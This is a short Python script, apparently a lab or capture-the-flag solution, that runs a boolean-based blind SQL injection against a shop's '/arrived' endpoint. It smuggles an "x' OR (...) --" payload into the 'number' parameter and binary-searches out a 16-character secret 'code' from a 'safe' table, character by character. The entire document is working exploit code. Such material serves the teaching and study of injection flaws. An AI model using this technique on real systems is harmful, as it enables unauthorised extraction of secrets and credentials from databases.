"""Half the letters with every question: six or seven questions a character, some hundred in all."""

from target import http

asked = 0


def is_true(condition):
    """Let the shop say whether a condition of SQL holds."""
    global asked
    asked += 1
    number = f"x' OR ({condition}) --"
    return "true" in http.get("/arrived", params={"number": number}).text


code = ""
for place in range(1, 17):
    low, high = ord("0"), ord("z")
    while low < high:
        middle = (low + high) // 2
        if is_true(f"SELECT unicode(substr(code, {place}, 1)) > {middle} FROM safe"):
            low = middle + 1
        else:
            high = middle
    code += chr(low)

print(code, "after", asked, "questions")
